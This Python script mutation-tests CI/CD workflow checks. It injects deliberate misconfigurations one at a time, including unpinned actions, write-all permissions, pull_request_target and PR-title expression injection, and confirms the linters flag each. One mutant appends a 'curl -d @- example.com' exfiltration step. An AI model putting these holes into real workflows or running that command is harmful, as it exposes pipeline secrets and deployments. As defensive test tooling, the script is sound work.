#!/usr/bin/env python3
"""Makes one mistake after the other in a copy of the workflows and demands that a check finds each.

usage: workflow_mutants.py

Prints who found what; exit code 1 when a mistake was found by nobody. Needs the tools of workflows.txt on PATH.
"""

import pathlib
import shutil
import subprocess
import sys
import tempfile

import check_workflows

ROOT = pathlib.Path(__file__).resolve().parents[2]
CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
LOGIN = "          client-id: ${{ vars.AZURE_CLIENT_ID }}\n"

# What is wrong, file, text, text instead; the first occurrence is changed.
MUTANTS = [
    ("an action by its tag", "ci", CHECKOUT, "actions/checkout@v7"),
    ("an action by a branch", "ci", "aquasecurity/trivy-action@ed142fd0673e97e23eac54620cfb913e5ce36c25 # v0.36.0", "aquasecurity/trivy-action@master"),
    ("a pin without its version", "cd", CHECKOUT, CHECKOUT.split(" #")[0]),
    ("two pins of one action", "quality", CHECKOUT, "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b2 # v7.0.1"),
    ("an input the action does not know", "ci", "no-cache: true", "nocache: true"),
    ("credentials left in the checkout", "ci", "persist-credentials: false", "persist-credentials: true"),
    ("rights for everybody", "ci", "permissions: {}", "permissions: write-all"),
    ("a job without its own rights", "quality", "    permissions:\n      contents: read\n", ""),
    ("the tests may ask for an identity", "ci", "      contents: read\n", "      contents: read\n      id-token: write\n"),
    ("the signer may not ask for an identity", "ci", "      id-token: write # the identity that signs, without a key\n", ""),
    ("a pull request may push", "ci", "    if: github.event_name == 'push' && github.ref == 'refs/heads/main'\n    strategy", "    strategy"),
    ("pull requests with our rights", "quality", "  pull_request:\n", "  pull_request_target:\n"),
    ("a title in the command", "quality", "run: ./scripts/quality_gate.sh", 'run: ./scripts/quality_gate.sh "${{ github.event.pull_request.title }}"'),
    ("an input in the command", "rollback", "${REVISION:+--to \"$REVISION\"}", "--to ${{ inputs.revision }}"),
    ("a stranger's text handed over", "quality", "REPORTS_DIR: ${{ runner.temp }}/quality", "REPORTS_DIR: ${{ github.head_ref }}"),
    ("a script that is not there", "ci", "./scripts/release/sign.sh", "./scripts/release/sing.sh"),
    ("a variable that no script reads", "ci", "DIGESTS_DIR: ${{ runner.temp }}/digests\n      - name: Signature", "DIGEST_DIR: ${{ runner.temp }}/digests\n      - name: Signature"),
    ("a step with work of its own", "ci", "run: ./.ci/run", "run: ./.ci/run && curl -d @- example.com"),
    ("failures ignored", "quality", "    runs-on", "    continue-on-error: true\n    runs-on"),
    ("no time limit", "security", "    timeout-minutes: 60\n", ""),
    ("a runner that changes by itself", "security", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"),
    ("a runner that does not exist", "ci", "ubuntu-24.04-arm", "ubuntu-24.04-arm64-big"),
    ("a gate that does not fail", "ci", '@${{ steps.build.outputs.digest }}\n          trivy-config: .github/trivy.yaml\n          exit-code: "1"', '@${{ steps.build.outputs.digest }}\n          trivy-config: .github/trivy.yaml\n          exit-code: "0"'),
    ("a gate on a name", "ci", "image-ref: ${{ needs.plan.outputs.image }}@${{ steps.build.outputs.digest }}", "image-ref: ${{ needs.plan.outputs.image }}:latest"),
    ("publishing without tests", "ci", "needs: [quality, plan]", "needs: [plan]"),
    ("latest before the signature", "ci", "run: ./scripts/release/sign.sh", "run: ./scripts/release/promote.sh"),
    ("a build that is named at once", "ci", "          no-cache: true\n", "          no-cache: true\n          tags: rag-api:latest\n"),
    ("an output that no step has", "ci", "steps.index.outputs.digest", "steps.indexes.outputs.digest"),
    ("a need that is no job", "cd", "needs: [verify, staging]", "needs: [verify, stage]"),
    ("production without staging", "cd", "needs: [verify, staging]", "needs: [verify]"),
    ("production without approval", "cd", "    environment: production\n", "    environment: staging\n"),
    ("runs of forks deployed", "cd", "        github.event.workflow_run.event == 'push' &&\n", ""),
    ("failed runs deployed", "cd", "        github.event.workflow_run.conclusion == 'success' &&\n", ""),
    ("a commit that judges itself", "cd", "          # Main's scripts", "          ref: ${{ env.COMMIT }}\n          # Main's scripts"),
    ("a commit of any branch", "cd", "plan.sh --on origin/main", "plan.sh"),
    ("anybody's signature", "cd", "SIGNER_WORKFLOW: .github/workflows/ci.yml@refs/heads/main", "SIGNER_WORKFLOW: .github/workflows/ci.yml@refs/heads/dev"),
    ("a name deployed instead of the digest", "cd", "IMAGE: ${{ needs.verify.outputs.image }}", "IMAGE: ${{ needs.verify.outputs.tag }}"),
    ("a password for Azure", "cd", LOGIN, "          creds: ${{ secrets.AZURE_CREDENTIALS }}\n"),
    ("failures of production not recorded", "cd", "if: always() && needs.production.outputs.started_at != ''", "if: needs.production.outputs.started_at != ''"),
    ("failures recorded as successes", "cd", "send_datadog_dora_deployment.sh failure", "send_datadog_dora_deployment.sh success"),
    ("a good version marked by pressing twice", "rollback", " && needs.rollback.outputs.commit != needs.rollback.outputs.restored_commit", ""),
    ("two rollouts at once", "cd", "group: deploy-production", "group: deploy-production-${{ github.run_id }}"),
    ("a secret outside of environments", "cd", "    environment: datadog\n", ""),
    ("a rollout that is left half-way", "cd", "./scripts/deploy_canary.sh --abort", "./scripts/release/timestamp.sh"),
    ("a rollback that waits for the rollout", "rollback", "cancel-in-progress: true", "cancel-in-progress: false"),
    ("a rollback that builds", "rollback", "./scripts/rollback.sh", "./scripts/image/build.sh"),
    ("a rollback by push", "rollback", "on:\n", "on:\n  push:\n"),
    ("a setting nobody hears of", "cd", "${{ vars.BASE_URL }}", "${{ vars.STAGING_URL }}"),
    ("an unknown event filter", "ci", "    branches: [main]", "    branch: [main]"),
    ("a broken expression", "ci", "vars.IMAGE_TARGET || 'production'", "vars.IMAGE_TARGET || production'"),
    ("a schedule that is no time", "security", "17 4 * * 1", "17 4 * * 9"),
    ("an ecosystem that Dependabot does not know", "dependabot", "package-ecosystem: cargo", "package-ecosystem: crates"),
    ("updates without rest", "dependabot", "    cooldown: {default-days: 7}\n", ""),
]

LINTERS = {
    "jactionlint": ["jactionlint", "--no-online", "--strict-exit"],
    "zizmor": ["zizmor", "--quiet", "--offline", "--persona", "pedantic", "."],
    "schema": ["check-jsonschema", "--builtin-schema", "vendor.github-workflows"],
    "Dependabot's schema": ["check-jsonschema", "--builtin-schema", "vendor.dependabot", ".github/dependabot.yml"],
}


def main():
    with tempfile.TemporaryDirectory() as folder:
        copy = pathlib.Path(folder) / "project"
        for part in (".github", "scripts", ".ci"):
            shutil.copytree(ROOT / part, copy / part)
        shutil.copy(ROOT / "Cargo.toml", copy)
        # Linters look for the root of a repository.
        subprocess.run(["git", "init", "--quiet", copy], check=True)
        before = look(copy)
        if loud := [name for name in LINTERS if before[name]]:
            print(f"{', '.join(loud)} finds something without any mistake: mend that first")
            return 1
        missed = 0
        for what, name, old, new in MUTANTS:
            file = copy / ".github" / (f"{name}.yml" if name == "dependabot" else f"workflows/{name}.yml")
            text = file.read_text(encoding="utf-8")
            if old not in text:
                print(f"{what}: {name}.yml has no `{old.strip()}` any more")
                missed += 1
                continue
            file.write_text(text.replace(old, new, 1), encoding="utf-8")
            found = [who for who, says in look(copy).items() if says - before[who]]
            file.write_text(text, encoding="utf-8")
            missed += not found
            print(f"{'found' if found else 'MISSED':7} {what} ({name}.yml): {', '.join(found)}")
        print(f"{len(MUTANTS) - missed} of {len(MUTANTS)} mistakes in workflows found")
        return 1 if missed else 0


def look(copy):
    """What each check says; for linters a word if they fail, for our rules each problem."""
    says = {}
    for name, command in LINTERS.items():
        files = sorted(map(str, (copy / ".github/workflows").glob("*.yml"))) if name == "schema" else []
        done = subprocess.run([*command, *files], cwd=copy, capture_output=True, text=True, timeout=120)
        says[name] = {"fails"} if done.returncode else set()
    try:
        says["rules"] = set(check_workflows.problems(copy))
    except Exception as error:  # A workflow that cannot be read is a problem as well.
        says["rules"] = {f"{type(error).__name__}: {error}"}
    return says


if __name__ == "__main__":
    sys.exit(main())
